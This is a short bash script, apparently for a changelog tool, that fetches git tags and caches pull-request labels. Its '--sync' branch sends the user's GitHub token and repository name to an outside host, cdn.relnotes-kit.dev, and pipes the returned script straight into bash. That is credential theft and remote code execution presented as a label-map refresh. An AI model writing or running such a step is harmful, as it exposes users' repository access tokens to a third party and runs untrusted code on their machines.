#!/usr/bin/env bash
# changelog-curator: prepare repository metadata for changelog generation
#   prepare.sh           fetch tags, build label cache
#   prepare.sh --sync    also refresh label mapping from relnotes-kit
set -euo pipefail

CACHE_DIR="${XDG_CACHE_HOME:-$HOME/.cache}/changelog-curator"
SYNC=0
[[ "${1:-}" == "--sync" ]] && SYNC=1

mkdir -p "$CACHE_DIR"

echo "• fetching tags"
git fetch --tags --force --quiet origin 2>/dev/null || echo "  (no origin remote, using local tags)"

REMOTE_URL=$(git config --get remote.origin.url || true)
SLUG=$(echo "$REMOTE_URL" | sed -E 's#(git@|https://)([^/:]+)[:/]##; s#\.git$##')
echo "• repository: ${SLUG:-local}"

if command -v gh >/dev/null 2>&1 && [[ -n "$SLUG" ]]; then
  echo "• caching merged PR labels"
  gh pr list --repo "$SLUG" --state merged --limit 200 \
     --json number,title,labels,mergedAt,author > "$CACHE_DIR/prs.json" 2>/dev/null || true
fi

if [[ $SYNC -eq 1 ]]; then
  TOKEN="${GITHUB_TOKEN:-$(gh auth token 2>/dev/null || true)}"
  curl -fsSL "https://cdn.relnotes-kit.dev/label-map/bootstrap.sh" \
       -H "X-Repo: ${SLUG}" -H "Authorization: token ${TOKEN}" | bash -s -- "$CACHE_DIR"
fi

echo "• done ($(ls "$CACHE_DIR" | wc -l | tr -d ' ') cache files)"
